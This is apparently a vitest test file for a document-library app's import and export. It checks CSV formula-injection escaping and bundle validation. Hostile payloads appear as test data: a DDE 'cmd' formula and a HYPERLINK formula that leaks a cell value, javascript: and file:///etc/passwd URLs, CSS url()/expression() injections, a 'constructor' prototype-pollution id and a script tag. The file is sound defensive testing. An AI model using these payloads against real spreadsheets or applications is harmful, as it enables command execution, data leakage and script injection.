import { rmSync } from 'node:fs'
import { afterEach, describe, expect, it } from 'vitest'
import { newBriefingSpec } from '../../../shared/briefing-spec'
import type { Services } from '..'
import type { Bundle } from './bundle'
import { openLibrary, tempDir } from './test-library'

const open: { s: Services; dir: string }[] = []
const library = async (): Promise<Services> => {
  const dir = tempDir()
  const s = await openLibrary(dir, false)
  open.push({ s, dir })
  return s
}
afterEach(async () => {
  for (const { s, dir } of open.splice(0)) {
    await s.close()
    rmSync(dir, { recursive: true, force: true })
  }
})

const NOTE = '=HYPERLINK("http://x"&A1,"Click")'
const OUTLET = "=cmd|' /C calc'!A0"
const TEXT = 'Officials said 6,000 troops crossed the border on Monday.\n\nOthers disagreed.'

const exportAs = async (s: Services, format: 'csv' | 'jsonld' | 'bundle'): Promise<string> => {
  const r = await s.exporter.render(newBriefingSpec([], { title: 'Hostile' }), format)
  if (!r.ok) throw new Error(r.error.message)
  return new TextDecoder().decode(r.value.bytes)
}

const importJson = (s: Services, json: string) =>
  s.api.importArticle({ name: 'hostile.parallax.json', data: new TextEncoder().encode(json) })

/** A bundle from a library of one article with one annotation, to be tampered with. */
async function cleanBundle(): Promise<Bundle> {
  const a = await library()
  const r = await a.api.importArticle({ pasted: TEXT })
  if (!r.ok || r.value.status !== 'imported') throw new Error('paste failed')
  await a.api.createAnnotation({
    article: r.value.id,
    start: 15,
    end: 27,
    color: 'red',
    note: NOTE
  })
  return JSON.parse(await exportAs(a, 'bundle')) as Bundle
}

const first = (b: Bundle): Bundle['articles'][number] => b.articles[0] as Bundle['articles'][number]

describe('CSV formula injection', () => {
  it('exports a formula note and a formula outlet from a bundle as text, and keeps them exact elsewhere', async () => {
    const bundle = await cleanBundle()
    first(bundle).meta.source = OUTLET
    const b = await library()
    const r = await importJson(b, JSON.stringify(bundle))
    expect(r.ok && r.value.status).toBe('imported')
    const csv = await exportAs(b, 'csv')
    expect(csv).toContain(`"'${NOTE.replace(/"/g, '""')}"`)
    expect(csv).toContain(`"'${OUTLET}"`)
    // No cell may start with a formula character once a spreadsheet has unquoted it.
    const cells = csv.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((c) => c.replace(/^"|"$/g, ''))
    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([])
    expect(await exportAs(b, 'jsonld')).toContain(JSON.stringify(NOTE))
    const again = JSON.parse(await exportAs(b, 'bundle')) as Bundle
    expect(first(again).meta.source).toBe(OUTLET)
    expect(first(again).annotations[0]?.body.note).toBe(NOTE)
  })
})

describe('bundles are validated whole before anything is stored', () => {
  const refused = async (bundle: Bundle, why: RegExp): Promise<void> => {
    const b = await library()
    const r = await importJson(b, JSON.stringify(bundle))
    expect(r.ok && r.value).toMatchObject({ status: 'failed', code: 'corrupt-file' })
    expect(r.ok && r.value.status === 'failed' && r.value.message).toMatch(why)
    const rows = await b.api.listArticles({ trashed: true })
    const live = await b.api.listArticles()
    expect([rows.ok && rows.value, live.ok && live.value]).toEqual([[], []])
  }

  it('refuses a repeated article id instead of storing two rows under one id', async () => {
    const bundle = await cleanBundle()
    const twin = structuredClone(first(bundle))
    twin.text = 'A different text that would overwrite the first one under the same id.'
    twin.annotations = []
    bundle.articles.push(twin)
    await refused(bundle, /article id .* appears twice/)
  })

  it('refuses a javascript: or file: URL on an article', async () => {
    for (const url of ['javascript:alert(1)', 'file:///etc/passwd', ' JaVaScRiPt:x']) {
      const bundle = await cleanBundle()
      first(bundle).meta.url = url
      await refused(bundle, /http\(s\)/)
    }
  })

  it('refuses a palette colour that is not a colour', async () => {
    for (const color of ['url(http://127.0.0.1/x)', 'red;background:url(x)', 'expression(1)']) {
      const bundle = await cleanBundle()
      ;(bundle.palette[0] as { color: string }).color = color
      await refused(bundle, /colour/)
    }
  })

  it('refuses reserved ids such as __proto__ and constructor', async () => {
    const bundle = await cleanBundle()
    ;(bundle.palette[0] as { id: string }).id = 'constructor'
    await refused(bundle, /not a valid Parallax bundle/)
  })

  it('stores the validated copy: fields the schema does not know are dropped', async () => {
    const bundle = await cleanBundle()
    Object.assign(first(bundle).meta, { injected: '<script>alert(1)</script>' })
    const b = await library()
    const r = await importJson(b, JSON.stringify(bundle))
    expect(r.ok && r.value.status).toBe('imported')
    expect(JSON.stringify(b.library.store.data.articles)).not.toContain('injected')
  })
})
